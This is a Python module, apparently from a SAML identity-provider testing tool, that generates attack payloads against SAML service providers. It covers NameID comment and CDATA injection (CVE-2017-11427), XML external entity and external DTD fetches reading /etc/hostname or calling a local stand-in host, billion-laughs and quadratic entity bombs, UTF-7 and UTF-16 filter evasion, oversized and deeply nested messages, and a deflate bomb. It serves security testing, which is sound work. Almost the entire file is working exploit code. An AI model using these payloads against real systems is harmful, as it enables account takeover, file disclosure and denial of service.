"""Text that two readers read differently, or that costs the reader more than the sender (S12-S15)."""

from __future__ import annotations

import base64
import zlib

from lxml import etree

from devidp import saml_xml as sx
from devidp.saml_attack import SUFFIX, Context, Table
from devidp.saml_response import Attribute, build
from devidp.saml_xml import SAML, SAMLP, Element

PARSER = Table()

_TAIL = SUFFIX.encode()
DEPTH = 100_000
GIANT = 8 * 1024 * 1024


def _body(text: bytes) -> bytes:
    """Without the XML declaration."""
    return text.partition(b"?>\n")[2]


def _declared(body: bytes, doctype: str = "", encoding: str = "UTF-8") -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}\n'.encode() + body


def _named(text: bytes, name: bytes) -> bytes:
    """The NameID's text, which was signed, replaced."""
    tree = sx.own(text)
    sx.need(tree, "Assertion/Subject/NameID").text = "devidp-name"
    return _body(sx.document(tree)).replace(b"devidp-name", name)


# -- where a value ends (S13) --------------------------------------------------------------------------


def _longer(context: Context) -> bytes:
    """An honest message about an account whose name begins with the victim's."""
    return context.honest(name_id=f"{context.victim.name_id}{SUFFIX}", encrypt="none")


@PARSER.attack("S13", own_name=True)
def comment_in_name_id(context: Context) -> bytes:
    """A comment behind the victim's name in a longer NameID; the signature holds (CVE-2017-11427)."""
    return _longer(context).replace(_TAIL, b"<!-- -->" + _TAIL)


@PARSER.attack("S13", own_name=True)
def cdata_in_name_id(context: Context) -> bytes:
    """The end of a longer NameID stands in a CDATA section; the signature holds."""
    return _longer(context).replace(_TAIL, b"<![CDATA[" + _TAIL + b"]]>")


@PARSER.attack("S13", own_name=True)
def comment_in_attribute(context: Context) -> bytes:
    """A comment behind the victim's values in longer attribute values; the signature holds."""
    longer = tuple(
        Attribute(
            name=one.name, values=tuple(f"{v}{SUFFIX}" for v in one.values), name_format=one.name_format
        )
        for one in context.victim.attributes or ()
    )
    return context.honest(attributes=longer, encrypt="none").replace(_TAIL, b"<!-- -->" + _TAIL)


def _split(context: Context, node: Element) -> bytes:
    def put(tree: Element) -> None:
        name = sx.need(tree, "Assertion/Subject/NameID")
        name.text = context.victim.name_id
        node.tail = SUFFIX
        name.append(node)

    return context.honest(mutate=put, encrypt="none")


@PARSER.attack("S13", own_name=True)
def instruction_in_name_id(context: Context) -> bytes:
    """A processing instruction behind the victim's name in a longer NameID, signed with it inside."""
    return _split(context, etree.ProcessingInstruction("x", "y"))


@PARSER.attack("S13")
def element_in_name_id(context: Context) -> bytes:
    """An element behind the victim's name in a longer NameID, signed with it inside."""
    return _split(context, etree.Element("x"))


# -- DTDs and entities (S12, S14) ----------------------------------------------------------------------


def _with_doctype(context: Context, inside: str, name: str | None = None) -> bytes:
    text = context.honest(encrypt="none")
    body = _body(text) if name is None else _named(text, name.encode())
    return _declared(body, f"<!DOCTYPE samlp:Response {inside}>")


@PARSER.attack("S12")
def doctype(context: Context) -> bytes:
    """A DOCTYPE that declares nothing; the signature holds."""
    return _with_doctype(context, "")


@PARSER.attack("S12")
def internal_entity(context: Context) -> bytes:
    """The NameID is an entity that stands for the honest name; the signature holds once it is expanded."""
    return _with_doctype(context, f'[<!ENTITY who "{context.recipe.name_id}">]', "&who;")


@PARSER.attack("S12")
def default_attribute(context: Context) -> bytes:
    """A DTD gives every Assertion an attribute by default, for readers that heed it."""
    return _with_doctype(context, '[<!ATTLIST saml:Assertion ID CDATA "_x" xmlns CDATA "urn:x">]')


@PARSER.attack("S14")
def external_dtd(context: Context) -> bytes:
    """A DTD to be fetched from another machine."""
    return _with_doctype(context, 'SYSTEM "http://127.0.0.1:9/evil.dtd"')


@PARSER.attack("S14")
def external_entity(context: Context) -> bytes:
    """The NameID is an entity that stands for a file."""
    return _with_doctype(context, '[<!ENTITY who SYSTEM "file:///etc/hostname">]', "&who;")


@PARSER.attack("S14")
def parameter_entity(context: Context) -> bytes:
    """A parameter entity to be fetched while the DTD is read."""
    return _with_doctype(context, '[<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]')


@PARSER.attack("S14")
def billion_laughs(context: Context) -> bytes:
    """Ten entities, each ten times the one before: three billion characters in a NameID."""
    rows = ['<!ENTITY l0 "lol">']
    rows += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return _with_doctype(context, f"[{''.join(rows)}]", "&l9;")


@PARSER.attack("S14")
def quadratic_blowup(context: Context) -> bytes:
    """One long entity, used very often."""
    return _with_doctype(context, f'[<!ENTITY a "{"a" * 50_000}">]', "&a;" * 20_000)


# -- encodings (S12) -----------------------------------------------------------------------------------


@PARSER.attack("S12", own_name=True)
def utf16(context: Context) -> bytes:
    """The honest message in UTF-16, which is lawful XML and hides words from filters of bytes."""
    return _declared(_body(context.honest()), encoding="UTF-16").decode().encode("utf-16")


@PARSER.attack("S12")
def utf16_doctype(context: Context) -> bytes:
    """A DOCTYPE with an entity, in UTF-16."""
    text = _with_doctype(context, f'[<!ENTITY who "{context.recipe.name_id}">]', "&who;")
    return text.replace(b"UTF-8", b"UTF-16", 1).decode().encode("utf-16")


@PARSER.attack("S12")
def utf7_doctype(context: Context) -> bytes:
    """A DOCTYPE with an entity, in UTF-7 as declared: no byte of it is a less-than sign."""
    text = _with_doctype(context, f'[<!ENTITY who "{context.recipe.name_id}">]', "&who;")
    head, _, rest = text.decode().partition("?>")
    return f"{head.replace('UTF-8', 'UTF-7')}?>".encode() + rest.encode("utf-7").replace(b"<", b"+ADw-")


@PARSER.attack("S12")
def false_encoding(context: Context) -> bytes:
    """UTF-8 text that says it is UTF-16."""
    return _declared(_body(context.honest()), encoding="UTF-16")


@PARSER.attack("S12")
def unknown_encoding(context: Context) -> bytes:
    """An encoding that nobody knows."""
    return _declared(_body(context.honest()), encoding="x-devidp")


@PARSER.attack("S12")
def two_documents(context: Context) -> bytes:
    """An honest document, and an evil one behind it."""
    return context.honest() + _body(build(context.evil(encrypt="none")))


@PARSER.attack("S12")
def nul_byte(context: Context) -> bytes:
    """A NUL in the middle of the NameID."""
    return _longer(context).replace(_TAIL, b"\x00" + _TAIL)


# -- size (S15) ----------------------------------------------------------------------------------------


def _padded(context: Context, padding: bytes) -> bytes:
    """In Extensions of a Response whose assertion is signed, so that the signature holds."""
    tree = sx.own(context.honest(signed="assertion"))
    extensions = tree.makeelement(sx.q(SAMLP, "Extensions"))
    extensions.append(sx.hole("padding"))
    sx.need(tree, "Issuer").addnext(extensions)
    return _declared(sx.spliced(tree, {"padding": padding}))


@PARSER.attack("S15")
def giant(context: Context) -> bytes:
    """A message of eight million bytes, in many elements."""
    return _padded(context, b'<x xmlns="urn:x">y</x>' * (GIANT // 22))


@PARSER.attack("S15")
def giant_text(context: Context) -> bytes:
    """A message with one text of more than ten million bytes, libxml2's limit."""
    return _padded(context, b'<x xmlns="urn:x">' + b"y" * (GIANT + 4_000_000) + b"</x>")


@PARSER.attack("S15")
def deep(context: Context) -> bytes:
    """Elements nested a hundred thousand deep."""
    return _padded(context, b'<x xmlns="urn:x">' + b"<x>" * DEPTH + b"</x>" * DEPTH + b"</x>")


@PARSER.attack("S15")
def many_attributes(context: Context) -> bytes:
    """One element with fifty thousand attributes."""
    return _padded(context, b"<x " + b" ".join(b'a%d="b"' % n for n in range(50_000)) + b' xmlns="urn:x"/>')


@PARSER.attack("S15")
def many_signatures(context: Context) -> bytes:
    """Two thousand copies of the signature, each to be verified by who does not look where they stand."""
    tree = sx.own(context.honest(signed="assertion"))
    return _padded(context, sx.canonical(sx.need(tree, "Assertion/Signature")) * 2000)


# -- the envelope of base64 ----------------------------------------------------------------------------


@PARSER.attack("S12")
def not_base64(context: Context) -> str:
    """The XML itself in the place of its base64."""
    return context.honest().decode()


@PARSER.attack("S12")
def base64_with_garbage(context: Context) -> str:
    """Characters between the base64 that a lenient reader skips."""
    text = base64.b64encode(context.honest()).decode()
    return "*".join(text[n : n + 76] for n in range(0, len(text), 76))


@PARSER.attack("S12")
def base64_twice(context: Context) -> bytes:
    """Base64 of base64."""
    return base64.b64encode(context.honest())


@PARSER.attack("S15")
def deflated_in_post(context: Context) -> bytes:
    """Compressed, as it is only in redirects."""
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return packer.compress(context.honest()) + packer.flush()


@PARSER.attack("S12")
def empty(context: Context) -> str:  # noqa: ARG001 -- one signature for all
    """An empty SAMLResponse."""
    return ""


@PARSER.attack("S12")
def not_a_response(context: Context) -> bytes:
    """The signed Assertion alone, in no Response."""
    tree = sx.own(context.honest(signed="assertion", encrypt="none"))
    return sx.canonical(sx.need(tree, "Assertion"))


@PARSER.attack("S12")
def other_namespace(context: Context) -> bytes:
    """Response and Assertion of SAML 1.1's namespaces."""
    text = context.honest(encrypt="none")
    return text.replace(SAML.encode(), b"urn:oasis:names:tc:SAML:1.0:assertion").replace(
        SAMLP.encode(), b"urn:oasis:names:tc:SAML:1.0:protocol"
    )


def deflate_bomb(size: int = 100_000_000) -> str:
    """For messages by redirect (logout): a few bytes that become `size` (row S15, CVE-2025-25293)."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    text = b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000))
    return base64.b64encode(text + packer.flush()).decode()
